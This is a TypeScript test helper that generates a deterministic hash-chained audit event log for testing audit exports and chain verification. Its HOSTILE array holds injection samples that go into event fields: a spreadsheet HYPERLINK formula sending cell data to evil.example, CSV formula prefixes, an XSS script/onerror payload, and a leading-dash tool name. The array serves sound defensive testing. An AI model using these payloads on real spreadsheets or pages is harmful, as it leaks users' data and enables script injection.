// Test-side audit chain generator with its own canonical JSON (independent of src-main/services/audit/jcs.ts).
import { createHash } from 'node:crypto';

export const ZERO64 = '0'.repeat(64);

function canon(v: unknown): string {
  if (Array.isArray(v)) return `[${v.map(canon).join(',')}]`;
  if (v && typeof v === 'object') {
    const entries = Object.entries(v as Record<string, unknown>).filter(([, x]) => x !== undefined);
    entries.sort(([a], [b]) => (a < b ? -1 : a > b ? 1 : 0));
    return `{${entries.map(([k, x]) => `${JSON.stringify(k)}:${canon(x)}`).join(',')}}`;
  }
  return JSON.stringify(v);
}

export function hashEvent(prev: string, e: Record<string, unknown>): string {
  const { prev_hash: _p, hash: _h, ...body } = e;
  return createHash('sha256').update(prev + canon(body)).digest('hex');
}

export interface ChainEvent {
  seq: number;
  id: string;
  workspace_id: string;
  occurred_at: string;
  credential_id: string | null;
  credential_type: string | null;
  caller_ip: string | null;
  method: string | null;
  endpoint: string | null;
  params: Record<string, unknown>;
  status: number | null;
  duration_ms: number | null;
  pii_accessed: boolean;
  /** only with opts.surfaces (a platform that reports surfaces) */
  surface?: 'api' | 'mcp' | 'webhook';
  mcp_tool?: string | null;
  prev_hash: string;
  hash: string;
}

export const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A2)',
  '\tTAB start',
  '\rCR start',
  '\nLF start',
  'a "quoted" value, with comma',
  'multi\nline\r\nvalue',
  '<script>alert(1)</script><img src=x onerror=alert(2)>',
  '\u202Eevil\u202C rtl',
  "'already quoted",
  'null\u0000byte',
  'emoji 😀 and ünïcödé',
  '',
];

const ENDPOINTS = ['/v1/contacts', '/v1/contacts/export', '/v1/api-keys', '/v1/apps', '/v1/workspace', '/v1/audit-events', '/v1/machine-clients'];
const TYPES = ['api_key', 'oauth_app', 'machine_client', 'service_token', 'user_grant'];
const METHODS = ['GET', 'POST', 'PATCH', 'DELETE'];
const STATUSES = [200, 200, 200, 201, 204, 301, 400, 401, 403, 404, 429, 500, 503];

export const CHAIN_TOOLS = ['search_contacts', 'create_ticket', 'list_deals', '-leading-dash'];

/**
 * Deterministic pseudo-random chain; startMs + i * stepMs timestamps. With `surfaces`, every event carries surface and
 * mcp_tool: every 5th is an MCP tool call (POST /mcp, tools from CHAIN_TOOLS), every 11th a webhook delivery (no credential).
 */
export function makeChain(workspaceId: string, n: number, opts: { seed?: number; startMs?: number; stepMs?: number; hostileEvery?: number; hostileFields?: boolean; surfaces?: boolean } = {}): ChainEvent[] {
  let s = (opts.seed ?? 1) >>> 0 || 1;
  const rnd = () => {
    s ^= s << 13;
    s >>>= 0;
    s ^= s >>> 17;
    s ^= s << 5;
    s >>>= 0;
    return s / 0x100000000;
  };
  const pick = <T>(a: readonly T[]) => a[Math.floor(rnd() * a.length)]!;
  const start = opts.startMs ?? Date.parse('2025-01-01T00:00:00Z');
  const step = opts.stepMs ?? 60_000;
  const out: ChainEvent[] = [];
  let prev = ZERO64;
  for (let i = 0; i < n; i++) {
    const seq = i + 1;
    const hostile = opts.hostileEvery && i % opts.hostileEvery === 0 ? HOSTILE[(i / opts.hostileEvery) % HOSTILE.length] : undefined;
    const e: Record<string, unknown> = {
      seq,
      id: `evt_${workspaceId}_${seq}`,
      workspace_id: workspaceId,
      occurred_at: new Date(start + i * step).toISOString(),
      credential_id: `cred_${Math.floor(rnd() * 20)}`,
      credential_type: pick(TYPES),
      caller_ip: rnd() < 0.8 ? `10.${Math.floor(rnd() * 4)}.${Math.floor(rnd() * 256)}.${Math.floor(rnd() * 256)}` : `2001:db8::${Math.floor(rnd() * 65535).toString(16)}`,
      method: pick(METHODS),
      endpoint: pick(ENDPOINTS),
      params: hostile !== undefined ? { q: hostile, note: hostile, n: Math.floor(rnd() * 1000) / 10 } : { limit: 100, cursor: `c${Math.floor(rnd() * 1e6)}`, fields: ['name', 'email'] },
      status: pick(STATUSES),
      duration_ms: Math.floor(rnd() * 900),
      pii_accessed: rnd() < 0.3,
    };
    if (opts.surfaces) {
      e.surface = 'api';
      e.mcp_tool = null;
      if (i % 11 === 10) Object.assign(e, { surface: 'webhook', credential_id: null, credential_type: null, method: 'POST', endpoint: `/hooks/whe_${workspaceId}` });
      else if (i % 5 === 4) Object.assign(e, { surface: 'mcp', mcp_tool: CHAIN_TOOLS[Math.floor(i / 5) % CHAIN_TOOLS.length], method: 'POST', endpoint: '/mcp' });
    }
    if (hostile !== undefined && opts.hostileFields) {
      e.credential_id = hostile;
      e.endpoint = hostile;
      e.credential_type = hostile.slice(0, 100);
      e.id = `${hostile}#${seq}`;
    }
    e.prev_hash = prev;
    e.hash = hashEvent(prev, e);
    prev = e.hash as string;
    out.push(e as unknown as ChainEvent);
  }
  return out;
}
